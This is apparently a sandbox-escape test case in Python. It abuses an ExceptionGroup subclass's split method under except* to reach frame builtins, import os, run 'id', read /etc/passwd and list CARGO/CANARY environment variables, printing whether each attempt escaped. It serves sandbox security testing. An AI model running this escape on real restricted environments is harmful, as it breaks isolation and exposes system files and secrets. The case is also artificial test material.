# /// case
# technique = "exception-tricks"
# analysis = ["forbidden-attribute"]
# without_analysis = "contained"
# reference = "CVE-2025-22153"
# ///
# `except*` calls the group's own `split`, which may answer with anything; what is caught then leads outwards.
class Odd(ExceptionGroup):
    def split(self, kind):
        return [self, None, self], object()

found = None
try:
    try:
        raise Odd("odd", [ValueError(1)])
    except* ValueError as caught:
        found = caught
except BaseException as error:
    found = error
frame = found.__traceback__.tb_frame
found = frame.f_builtins["__import__"]("os")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
